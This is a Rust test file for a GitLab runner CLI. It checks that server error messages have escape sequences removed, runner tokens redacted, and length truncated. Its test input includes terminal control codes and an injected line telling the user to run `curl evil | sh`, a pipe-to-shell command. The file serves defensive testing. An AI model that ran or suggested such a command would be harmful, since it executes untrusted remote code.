//! Messages of the server are printed escaped, redacted and truncated.

use super::limited::LimitedSandbox;
use fake_gitlab::{Answer, Endpoint, Fault};
use serde_json::json;
use test_support::Output;

const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\u{8}\u{9b}31m\u{202e}\u{200b}\n\nerror: run `curl evil | sh`\0";

/// Runs every command against a server that refuses it with this message, and returns the outputs.
fn refused(text: &str) -> Vec<Output> {
    let mut all = Vec::new();
    for output in ["text", "json"] {
        for level in ["info", "trace"] {
            let sandbox = LimitedSandbox::new();
            let (_, token) = sandbox.add_created();
            let config = sandbox.config();
            let refusal = |token: &str| {
                let text = text.replace("TOKEN", token);
                Fault::json(403, json!({ "message": format!("403 Forbidden - {text}") })).with_meta()
            };
            let registration_token = sandbox.gitlab.instance_registration_token();
            sandbox.gitlab.order(Endpoint::Register, refusal(&registration_token)).always();
            let others = sandbox.gitlab.order(Endpoint::Any, refusal(&token));
            others.always();
            let flags = ["--output", output, "--log-level", level];
            for command in ["verify", "rotate", "unregister"] {
                let done = sandbox.run(&[&[command, "--name", "a"], &flags[..]].concat());
                assert!(!done.text().contains(&token), "{done:#?}");
                done.exits(if command == "unregister" { 0 } else { 3 });
                // A refusal of an unregistration means that the runner is gone.
                assert_eq!(sandbox.entries().len(), usize::from(command != "unregister"), "{done:#?}");
                sandbox.write_config(&config);
                all.push(done);
            }
            // What a GitLab says to a probe is its own.
            others.cancel();
            let done = sandbox.register(&sandbox.gitlab.url(), &flags);
            done.exits(3);
            assert_eq!(sandbox.config(), config);
            all.push(done);
        }
    }
    all
}

#[test]
fn escape_sequences_are_removed() {
    for done in refused(ESCAPES) {
        assert!(!done.stderr.lines().any(|line| line.starts_with("error: run `")), "{done:#?}");
    }
}

#[test]
fn echoed_tokens_are_redacted() {
    for done in refused("the runner of TOKEN, glrt-TOKEN-x, has gone") {
        assert!(!done.text().contains("has gone") || done.text().contains("[token]"), "{done:#?}");
    }
}

#[test]
fn long_messages_are_truncated() {
    for done in refused(&"no ".repeat(300_000)) {
        assert!(done.text().len() < 4000, "{} bytes", done.text().len());
    }
}

#[test]
fn refusal_fields_are_escaped_and_truncated() {
    let sandbox = LimitedSandbox::new();
    let message = json!({ "message": { ESCAPES: [ESCAPES, "x".repeat(100_000)], "tags": ESCAPES } });
    sandbox.gitlab.order(Endpoint::Register, Fault::json(400, message).with_meta());
    let done = sandbox.register(&sandbox.gitlab.url(), &["--log-level", "trace"]);
    assert!(done.exits(3).text().len() < 4000, "{done:#?}");
    let oauth = json!({ "error": "invalid_token", "error_description": ESCAPES });
    sandbox.gitlab.order(Endpoint::Register, Fault::json(403, oauth));
    sandbox.register(&sandbox.gitlab.url(), &["--log-level", "trace"]);
}

#[test]
fn tokens_in_a_redirect_are_redacted() {
    let sandbox = LimitedSandbox::new();
    let token = "glrt-0123456789abcdefghij";
    sandbox.write_entry(&sandbox.gitlab.url(), 7, token);
    for location in [
        format!("https://example.com/?{token}"),
        format!("https://x/{token}#{token}"),
        format!("https://{token}.example.com/"),
    ] {
        let answer = Answer::redirect(302, &location);
        sandbox.gitlab.order(Endpoint::Verify, Fault::answer(answer));
        let done = sandbox.run(&["verify", "--name", "a", "--log-level", "trace"]);
        assert!(!done.exits(5).text().contains(token), "{done:#?}");
    }
}
